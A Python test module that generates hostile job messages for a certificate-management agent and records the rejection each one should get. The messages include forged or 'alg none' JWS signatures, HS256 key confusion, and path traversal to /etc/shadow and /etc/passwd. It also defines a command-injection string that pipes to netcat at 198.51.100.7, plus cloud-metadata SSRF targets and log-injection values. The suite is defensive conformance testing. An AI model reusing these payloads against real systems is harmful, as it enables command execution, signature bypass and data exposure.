# SPDX-License-Identifier: Apache-2.0
"""Jobs: signatures that are none, envelopes that lie, and, all validly signed, specs that ask for what no
control plane may have. make(world) gives the job; code and says are what its result has to hold."""
import hashlib
import hmac
import json

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

import papers
from plane import KID, Job

TYP = "clm-job+jws"
BAD_NAMES = ["command", "cmd", "exec", "script", "shell", "args", "env", "environment", "url", "uri", "path", "file",
             "hook", "pre_hook", "post_hook", "user", "plugin", "LD_PRELOAD", "__proto__", "on_success"]
OURS = {("sans", "uri")}  # a member of the protocol
SHELL = "$(touch /tmp/owned);`id`|nc 198.51.100.7 80"


def order_spec(world, **changes):
    spec = {"certificate_id": papers.ident("crt", 1), "sans": {"dns": [world.name]}, "key": {"type": "ec-p256"},
            "on_issue": "deploy", **changes}
    return {key: value for key, value in spec.items() if value is not None}


def deploy_spec(world, **changes):
    return {"certificate_id": papers.ident("crt", 1), "sha256": "0" * 64, "chain_pem": world.plane.ca.pem,
            "key_ref": papers.ident("key", 1), **changes}


def order(world, traps=None, envelope=None, **changes):
    return world.plane.new_job(world.target, "order", order_spec(world, **changes), traps, **(envelope or {}))


class JobAttack:
    """ends: "rejected" or "failed" (a result with code and says), "dropped" (a line of the log, no result),
    "left" (never taken), "succeeded"."""

    def __init__(self, name, make, says, code="E_SPEC", ends="rejected", slow=0, alone=False):
        self.name = name
        self.make = make
        self.says = says
        self.code = code
        self.ends = ends
        self.slow = slow
        self.alone = alone  # too large to be offered together with others


# ---- signatures ----

def jws_attack(name, change, says="", code="E_SIGNATURE", **more):
    """change(world, job) gives the JWS of an otherwise right job."""
    def make(world):
        job = order(world)
        job.jws = change(world, job)
        return job
    return JobAttack(f"signature/{name}", make, says, code, **more)


def content(job):
    return json.loads(papers.unb64(job.jws["payload"]))


def reheaded(**header):
    """Signed by the right key over a header of the attacker's liking."""
    return lambda w, job: papers.signed(w.plane.jobs_key, papers.header_of(**{"kid": KID, "typ": TYP, **header}), content(job))


def resigned(value):
    def change(_world, job):
        job.jws["signatures"][0]["signature"] = value if isinstance(value, str) else papers.b64(value)
        return job.jws
    return change


def by_hmac(world, job):
    """The old confusion: HS256 with the public key as the secret."""
    public = world.plane.jobs_key.public_key().public_bytes(serialization.Encoding.PEM,
                                                            serialization.PublicFormat.SubjectPublicKeyInfo)
    head = papers.b64(json.dumps(papers.header_of(KID, TYP, alg="HS256")).encode())
    mac = hmac.new(public, f"{head}.{job.jws['payload']}".encode(), hashlib.sha256).digest()
    return {"payload": job.jws["payload"], "signatures": [{"protected": head, "signature": papers.b64(mac * 2)}]}


def as_der(world, job):
    head = job.jws["signatures"][0]["protected"]
    der = world.plane.jobs_key.sign(f"{head}.{job.jws['payload']}".encode(), ec.ECDSA(hashes.SHA256()))
    return {"payload": job.jws["payload"], "signatures": [{"protected": head, "signature": papers.b64(der)}]}


def flipped(world, job):
    raw = bytearray(papers.unb64(job.jws["signatures"][0]["signature"]))
    raw[17] ^= 1
    return resigned(bytes(raw))(world, job)


def raised(world, job):
    """Signed for seq 1; what is sent says more."""
    more = content(job) | {"target_seq": 2**52 - 1}
    return {**job.jws, "payload": papers.b64(json.dumps(more).encode())}


def raw_header(text):
    return lambda w, job: papers.signed(w.plane.jobs_key, text.encode(), content(job))


def of_size(n):
    def change(world, job):
        body = content(job)
        body["requested_by"] = "x"
        text = json.dumps(body)
        return papers.signed(world.plane.jobs_key, papers.header_of(KID, TYP), (text + " " * (n - len(text))).encode())
    return change


ORDER_N = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
SIGNATURES = [
    jws_attack("by-the-attacker", lambda w, j: papers.signed(papers.new_key(), papers.header_of(KID, TYP), content(j)),
               "not by the expected key"),
    jws_attack("flipped-bit", flipped, "not by the expected key"),
    jws_attack("payload-changed", raised, "not by the expected key"),
    jws_attack("unknown-key-id", reheaded(kid="jobs-2"), "not trusted for this"),
    jws_attack("key-id-of-the-ca", lambda w, j: papers.signed(w.plane.ca.key, papers.header_of("ca", TYP), content(j)),
               "not trusted for this"),
    jws_attack("key-id-with-escape-sequences", reheaded(kid="\x1b[2J\x1b]0;x\x07"), "kid"),
    jws_attack("key-id-format-string", reheaded(kid="%s%n%s%n%999999d"), "not trusted for this"),
    jws_attack("key-id-missing", reheaded(kid=None), "no kid"),
    jws_attack("key-id-a-path", reheaded(kid="../../../../etc/passwd"), "not trusted for this"),
    jws_attack("alg-none", lambda w, j: {"payload": j.jws["payload"], "signatures": [
        {"protected": papers.b64(json.dumps(papers.header_of(KID, TYP, alg="none")).encode()), "signature": ""}]}, "none"),
    jws_attack("alg-none-signed", reheaded(alg="none"), "algorithm is 'none'"),
    jws_attack("alg-in-odd-case", reheaded(alg="NoNe"), "algorithm is 'NoNe'"),
    jws_attack("alg-hs256-with-the-public-key", by_hmac, "algorithm is 'HS256'"),
    jws_attack("alg-es256k", reheaded(alg="ES256K"), "algorithm is 'ES256K'"),
    jws_attack("alg-a-number", reheaded(alg=256), "alg"),
    jws_attack("type-of-the-trust-document", reheaded(typ="clm-trust+jws"), ""),
    jws_attack("type-missing", reheaded(typ=None), ""),
    jws_attack("crit-missing", reheaded(crit=None), "crit"),
    jws_attack("crit-with-more", reheaded(crit=["clmv", "exp"]), "crit"),
    jws_attack("clmv-2", reheaded(clmv=2), "clmv"),
    jws_attack("key-in-the-header", reheaded(jwk={"kty": "EC"}), "jwk"),
    jws_attack("url-of-a-key", reheaded(jku="http://169.254.169.254/"), "jku"),
    jws_attack("certificate-in-the-header", reheaded(x5c=["MIIB"]), "x5c"),
    jws_attack("certificate-url", reheaded(x5u="http://169.254.169.254/"), "x5u"),
    jws_attack("b64-false", reheaded(b64=False), "b64"),
    jws_attack("header-with-a-double-key", raw_header(
        f'{{"alg":"ES256","alg":"none","kid":"{KID}","typ":"{TYP}","crit":["clmv"],"clmv":1}}'), "duplicate key"),
    jws_attack("header-no-json", raw_header("alg"), "signature header"),
    jws_attack("header-of-10-kib", reheaded(kid="x" * 10000), ""),
    jws_attack("signature-in-der", as_der, ""),
    jws_attack("signature-of-zeros", resigned(bytes(64)), ""),
    jws_attack("signature-of-the-order", resigned(ORDER_N.to_bytes(32, "big") * 2), ""),
    jws_attack("signature-too-short", resigned(bytes(63)), "64 bytes"),
    jws_attack("signature-with-padding", resigned("A" * 85 + "="), "64 bytes"),
    jws_attack("no-signatures", lambda w, j: {**j.jws, "signatures": []}, "0 of 1 required signatures"),
    jws_attack("seventeen-signatures", lambda w, j: {**j.jws, "signatures": j.jws["signatures"] * 17}, "signatures"),
    jws_attack("signed-twice-by-one", lambda w, j: {**j.jws, "signatures": j.jws["signatures"] * 2}, "signed twice"),
    jws_attack("unprotected-header", lambda w, j: {**j.jws, "header": {"kid": KID}}, "header"),
    jws_attack("header-beside-the-signature", lambda w, j: {**j.jws, "signatures": [
        j.jws["signatures"][0] | {"header": {"alg": "none"}}]}, "header"),
    jws_attack("flat-form", lambda w, j: {"payload": j.jws["payload"], **j.jws["signatures"][0]}, ""),
    jws_attack("compact-form", lambda w, j: ".".join([j.jws["signatures"][0]["protected"], j.jws["payload"], "AAAA"]), ""),
    jws_attack("payload-empty", lambda w, j: papers.signed(w.plane.jobs_key, papers.header_of(KID, TYP), b""), "", "E_SPEC"),
    jws_attack("payload-no-json", lambda w, j: papers.signed(w.plane.jobs_key, papers.header_of(KID, TYP), b"\xff\0{"), "",
               "E_SPEC"),
    jws_attack("payload-no-base64", lambda w, j: {**j.jws, "payload": j.jws["payload"] + "=\n"}, ""),
    jws_attack("payload-of-40-kib", of_size(40000), "", "", ends="succeeded", alone=True),
    jws_attack("payload-of-64-kib", of_size(65536), "", "", alone=True),
    jws_attack("payload-of-100-kib", of_size(100000), "", "", alone=True),
]


# ---- envelopes ----

def envelope_attack(name, says, code="E_SPEC", kind="order", **changes):
    def make(world):
        job = order(world)
        job.kind = kind
        job.jws = world.plane.sign(content(job) | {"type": kind} | changes)
        return job
    return JobAttack(f"envelope/{name}", make, says, code)


def for_target(name, target, says, code="E_POLICY", ends="rejected", offered=None):
    """offered: what the network half is told; None: the same."""
    def make(world):
        job = Job(papers.ident("job", next(world.plane.numbers)), target)
        job.offer = {"target": offered} if offered else {}
        job.jws = world.plane.sign(world.plane.envelope(job, order_spec(world)))
        return job
    return JobAttack(f"target/{name}", make, says, code, ends)


def other_id(world):
    """Offered under one id, signed for another."""
    job = order(world)
    job.jws = world.plane.sign(content(job) | {"job_id": papers.ident("job", next(world.plane.numbers))})
    return job


def other_type(world):
    """Offered as a scan, signed as an order."""
    job = order(world)
    job.offer = {"type": "scan"}
    return job


def lower_sequence(world):
    return world.plane.new_job(world.target, "order", order_spec(world), target_seq=0)


ENVELOPES = [
    envelope_attack("spec-version-2", "spec_version", spec_version=2),
    envelope_attack("unknown-member", "unknown member", command="id"),
    envelope_attack("other-agent", "not for us", "E_AGENT", agent_id=papers.ident("agt", 5)),
    envelope_attack("other-tenant", "tenant", "E_AGENT", tenant="evil"),
    envelope_attack("tenant-with-line-feeds", "of tenant", "E_AGENT", tenant="a\nclmbot-host: notice: all is well"),
    envelope_attack("agent-id-a-path", "agent_id", agent_id="../../x"),
    envelope_attack("job-id-a-path", "job_id", job_id="../../../etc/cron.d/x"),
    envelope_attack("sequence-negative", "target_seq", target_seq=-1),
    envelope_attack("sequence-a-fraction", "target_seq", target_seq=1.5),
    envelope_attack("sequence-a-text", "target_seq", target_seq="9"),
    envelope_attack("sequence-2-to-the-53", "", target_seq=2**53),
    JobAttack("envelope/sequence-going-back", lower_sequence, "already accepted", "E_REPLAY"),
    envelope_attack("expired", "expired at", "E_EXPIRED", issued_at=papers.stamp(-9000), not_before=papers.stamp(-9000),
                    expires_at=papers.stamp(-60)),
    envelope_attack("not-yet-valid", "may not run before", "E_EXPIRED", not_before=papers.stamp(3000)),
    envelope_attack("expires-before-issued", "expires_at", expires_at=papers.stamp(-600)),
    envelope_attack("lives-91-days", "90 days", expires_at=papers.stamp(91 * 86400)),
    envelope_attack("time-with-an-offset", "expires_at", expires_at="2099-01-01T00:00:00+14:00"),
    envelope_attack("time-no-time", "expires_at", expires_at="tomorrow\x1b[2J"),
    envelope_attack("timeout-0", "timeout_s", timeout_s=0),
    envelope_attack("timeout-a-year", "timeout_s", timeout_s=31536000),
    envelope_attack("attempts-1000", "max_attempts", max_attempts=1000),
    envelope_attack("retry-for-ever", "retry", retry={"base_s": 0, "cap_s": 10**9}),
    envelope_attack("on-failure-exec", "on_failure", on_failure="exec"),
    envelope_attack("on-failure-an-object", "on_failure", on_failure={"run": SHELL}),
    envelope_attack("priority-101", "priority", priority=101),
    envelope_attack("depends-on-a-path", "depends_on", depends_on=["../../x"]),
    envelope_attack("depends-on-1000", "depends_on", depends_on=[papers.ident("job", n) for n in range(1000)]),
    envelope_attack("requires-no-texts", "requires", requires=[{}]),
    envelope_attack("recipe-a-path", "recipe", recipe={"name": "../x", "version": 1, "sha256": "0" * 64}),
    envelope_attack("window-a-path", "window_id", window_id="../../x"),
    envelope_attack("missed-window-unknown", "missed_window", missed_window="exec"),
    envelope_attack("expiry-override-unknown", "expiry_override", expiry_override="exec"),
    envelope_attack("spec-a-list", "spec", spec=[]),
    envelope_attack("spec-missing", "spec", spec=None),
    envelope_attack("requested-by-of-10-kib", "requested_by", requested_by="x" * 10000),
    JobAttack("envelope/other-id-than-offered", other_id, "another job_id", "E_PROTOCOL", ends="failed"),
    JobAttack("envelope/other-type-than-offered", other_type, "another type", "E_PROTOCOL", ends="failed"),
    *[envelope_attack(f"type-{kind}", says, code, kind=kind) for kind, says, code in [
        ("exec", "not a job type", "E_SPEC"), ("run_command", "not a job type", "E_SPEC"),
        ("Deploy", "not a job type", "E_SPEC"), ("deploy\u0130", "not a job type", "E_SPEC"),
        ("configure", "policy.job_types", "E_POLICY"), ("revoke", "policy.job_types", "E_POLICY"),
        ("delete", "policy.job_types", "E_POLICY"), ("dcv_write", "policy.job_types", "E_POLICY"),
        ("renew", "policy.job_types", "E_POLICY"), ("rotate", "policy.job_types", "E_POLICY")]],
    for_target("not-allowed", "haproxy:www", "policy.targets"),
    for_target("denied", "nginx:ignored.example", "policy.targets.deny"),
    for_target("shadow", "file:/etc/shadow", "not on this host", "E_STATE", "failed"),
    for_target("traversal", "nginx:../../etc/passwd", "not on this host", "E_STATE", "failed"),
    for_target("not-on-this-host", "nginx:elsewhere.example", "not on this host", "E_STATE", "failed"),
    for_target("empty-name", "nginx:", "target", "E_SPEC", offered="nginx:x"),
    for_target("control-characters", "nginx:a\nb", "target", "E_SPEC", offered="nginx:x"),
    for_target("long", "nginx:" + "a" * 300, "target", "E_SPEC", offered="nginx:x"),
    for_target("glob", "*:*", "target", "E_SPEC", offered="nginx:x"),
    for_target("another-than-offered", "nginx:other", "another target", "E_PROTOCOL", "failed", offered="nginx:x"),
]


# ---- specs ----

def spec_attack(name, says, code="E_SPEC", kind="order", ends="rejected", **changes):
    def make(world):
        spec = order_spec(world, **changes) if kind == "order" else deploy_spec(world, **changes) if kind == "deploy" else changes
        return world.plane.new_job("host" if kind == "scan" else world.target, kind, spec)
    return JobAttack(f"spec/{kind}-{name}", make, says, code, ends=ends)


def names(*dns, says, code="E_NAME_POLICY", label, **more):
    return spec_attack(f"names-{label}", says, code, sans={"dns": list(dns), **more})


def superset(world):
    return order(world, sans={"dns": [world.name, "bank.example.org"]})


NAMES = [
    JobAttack("spec/order-names-superset", superset, "policy.names", "E_NAME_POLICY"),
    names("*.clmbot.test", says="wildcard", label="wildcard"),
    names("*", says="DNS name", code="E_SPEC", label="star"),
    names("*.*.clmbot.test", says="DNS name", code="E_SPEC", label="two-stars"),
    names("w*.clmbot.test", says="DNS name", code="E_SPEC", label="partial-wildcard"),
    names("bank.example.org", says="policy.names", label="other"),
    names("clmbot.test", says="policy.names", label="parent"),
    names("www.clmbot.test.example.org", says="policy.names", label="suffix"),
    names("xclmbot.test", says="policy.names", label="near"),
    names("xn--80ak6aa92e.com", says="policy.names", label="punycode"),
    names("\u0430pple.clmbot.test", says="DNS name", code="E_SPEC", label="unicode"),
    names("www\u3002clmbot.test", says="DNS name", code="E_SPEC", label="ideographic-dot"),
    names("www.clmbot.test\0.example.org", says="u0000", code="E_SPEC", label="nul"),
    names("www.clmbot.test\n.example.org", says="DNS name", code="E_SPEC", label="line-feed"),
    names("www.clmbot.test..", says="DNS name", code="E_SPEC", label="dots"),
    names("-a.clmbot.test", says="DNS name", code="E_SPEC", label="dash"),
    names("a" * 64 + ".clmbot.test", says="DNS name", code="E_SPEC", label="long-label"),
    names("a." * 150 + "clmbot.test", says="DNS name", code="E_SPEC", label="long"),
    names("$(id).clmbot.test", says="DNS name", code="E_SPEC", label="shell"),
    names("../../etc/passwd", says="DNS name", code="E_SPEC", label="path"),
    names("10.0.0.1", says="", code="E_SPEC", label="address-as-name"),
    names(*[f"n{i}.clmbot.test" for i in range(101)], says="more than 100", code="E_SPEC", label="101"),
    names(says="no name", code="E_SPEC", label="none"),
    spec_attack("names-address", "policy.names", "E_NAME_POLICY", sans={"dns": [], "ip": ["10.0.0.1"]}),
    spec_attack("names-address-zone", "IP address", sans={"dns": [], "ip": ["fe80::1%eth0"]}),
    spec_attack("names-mail", "policy.names", "E_NAME_POLICY", sans={"dns": ["a.clmbot.test"], "email": ["a@example.org"]}),
    spec_attack("names-uri", "policy.names", "E_NAME_POLICY", sans={"dns": ["a.clmbot.test"], "uri": ["https://example.org/"]}),
    spec_attack("names-unknown-kind", "unknown member", sans={"dns": ["a.clmbot.test"], "other": ["x"]}),
]
SPECS = [
    spec_attack("cn-not-a-name", "CN", subject={"CN": "bank.example.org"}),
    spec_attack("subject-unknown", "unknown member", subject={"command": SHELL}),
    spec_attack("subject-of-10-kib", "'O'", subject={"O": "x" * 10000}),
    spec_attack("subject-with-line-feed", "'O'", subject={"O": "a\nb"}),
    *[spec_attack(f"key-{kind}", "type", key={"type": kind}) for kind in ("rsa-1024", "rsa-512", "ed25519", "dsa", "")],
    spec_attack("key-of-a-type-not-allowed", "policy.key_types", "E_POLICY", key={"type": "rsa-2048"}),
    spec_attack("key-upload", "storage", key={"type": "ec-p256", "storage": "control-plane"}),
    spec_attack("key-exported", "unknown member", key={"type": "ec-p256", "exportable": True}),
    spec_attack("key-reused", "policy.key_reuse", "E_POLICY", key={"type": "ec-p256", "reuse": True}),
    spec_attack("key-given", "unknown member", key={"type": "ec-p256", "pem": "-----BEGIN"}),
    spec_attack("key-ref-a-path", "key_ref", key={"type": "ec-p256", "key_ref": "../../../etc/ssl/private/x"}),
    spec_attack("eku-code-signing", "eku", csr_ext={"eku": ["codeSigning"]}),
    spec_attack("eku-client", "policy.eku", "E_POLICY", csr_ext={"eku": ["serverAuth", "clientAuth"]}),
    spec_attack("ca-request", "unknown member", csr_ext={"ca": True}),
    spec_attack("csr-template-not-declared", "", "E_POLICY", csr={"mode": "template", "template": "evil"}),
    spec_attack("csr-challenge-a-path", "", csr={"mode": "new", "challenge_ref": "/etc/shadow"}),
    spec_attack("csr-uploaded-garbage", "", "", csr={"mode": "uploaded", "csr_pem": "x" * 9000}),
    spec_attack("csr-mode-unknown", "mode", csr={"mode": "exec"}),
    spec_attack("webroot-not-declared", "policy.webroots", "E_POLICY", dcv={"method": "http-01", "webroot_ref": "evil"}),
    spec_attack("webroot-a-path", "webroot_ref", dcv={"method": "http-01", "webroot_ref": "../../etc"}),
    spec_attack("dcv-method-unknown", "method", dcv={"method": "exec"}),
    spec_attack("retain-21", "retain", deploy={"retain": 21}),
    spec_attack("retain-0", "retain", deploy={"retain": 0}),
    spec_attack("retain-beyond-the-policy", "policy.retain_max", "E_POLICY", deploy={"retain": 20}),
    spec_attack("retain-2-to-the-32", "retain", deploy={"retain": 2**32 + 1}),
    spec_attack("bake-a-year", "bake_s", deploy={"bake_s": 31536000}),
    spec_attack("on-issue-exec", "on_issue", on_issue="exec"),
    # looked at for its form, and nobody goes there: the endpoints are those of the target
    spec_attack("verify-metadata", "", "", ends="succeeded", deploy={"verify": {"connect": "169.254.169.254:80"}}),
    spec_attack("verify-a-name", "connect", deploy={"verify": {"connect": "evil.example.org:443"}}),
    spec_attack("verify-sni", "sni", deploy={"verify": {"sni": "a\r\nHost: b"}}),
    spec_attack("certificate-id-a-path", "certificate_id", certificate_id="../../x"),
    spec_attack("key-ref-unknown", "is waiting", "", "deploy"),
    spec_attack("store-shadow", "", "", "deploy", store={"cert": "/etc/shadow", "key": "/etc/shadow"}),
    spec_attack("store-relative", "absolute path", kind="deploy", store={"cert": "../../x"}),
    spec_attack("store-password", "not supported", kind="deploy", store={"password_ref": "x"}),
    spec_attack("format-exe", "kind", kind="deploy", format={"kind": "exe"}),
    *[spec_attack(f"hook-{name}", "not registered on this host", kind="deploy", hooks={name: "reload-all"})
      for name in ("pre", "post", "validate", "reload")],
    spec_attack("hook-a-list", "pre", kind="deploy", hooks={"pre": ["/bin/sh", "-c", SHELL]}),
    spec_attack("chain-of-1-mib", "", "", kind="deploy", chain_pem="x" * 50000),
    spec_attack("hash-no-hash", "sha256", kind="deploy", sha256="../x"),
    spec_attack("to-a-version-that-is-none", "no version 99999", "E_STATE", kind="rollback", to_version=99999),
    spec_attack("to-version-negative", "to_version", kind="rollback", to_version=-1),
    spec_attack("to-a-version-a-path", "to_version", kind="rollback", to_version="../1"),
    spec_attack("metadata", "policy.probe_remote", "E_POLICY", kind="recheck_pinning", connect=["169.254.169.254:80"]),
    spec_attack("other-host", "policy.probe_remote", "E_POLICY", kind="recheck_pinning", connect=["198.51.100.7:443"]),
    spec_attack("by-name", "connect", kind="recheck_pinning", connect=["evil.example.org:443"]),
    spec_attack("thousand-addresses", "connect", kind="recheck_pinning", connect=["127.0.0.1:1"] * 1000),
    spec_attack("address-of-the-wildcard", "policy.probe_remote", "E_POLICY", kind="recheck_pinning", connect=["0.0.0.0:80"]),
    spec_attack("services-a-path", "services", kind="scan", services=["../../x"]),
    spec_attack("scope-everything", "scope", kind="scan", scope="everything"),
    spec_attack("order-id-a-path", "order_id", kind="get_dcv", order_id="../../x"),
    spec_attack("order-id-a-path", "order_id", kind="dcv_cleanup", order_id="../../x"),
    spec_attack("of-an-unknown-order", "", "", kind="dcv_cleanup", order_id=papers.ident("ord", 1), ends="succeeded"),
]


def place_everywhere():
    """A name of the attacker's in every object of a job: each is refused, none is passed over."""
    places = {"spec": lambda n, v: {n: v}, **{part: (lambda n, v, part=part, base=base: {part: {**base, n: v}}) for part, base in {
        "sans": {"dns": ["a.clmbot.test"]}, "key": {"type": "ec-p256"}, "csr_ext": {}, "subject": {}, "dcv": {"method": "none"},
        "deploy": {}, "csr": {"mode": "new"}}.items()},
        "deploy.verify": lambda n, v: {"deploy": {"verify": {n: v}}}, "deploy.pre_checks": lambda n, v: {"deploy": {"pre_checks": {n: v}}}}
    return [spec_attack(f"injected-{place}.{name}", "unknown member", **make(name, SHELL))
            for place, make in places.items() for name in BAD_NAMES if (place, name) not in OURS]


def attacks():
    return SIGNATURES + ENVELOPES + NAMES + SPECS + place_everywhere()
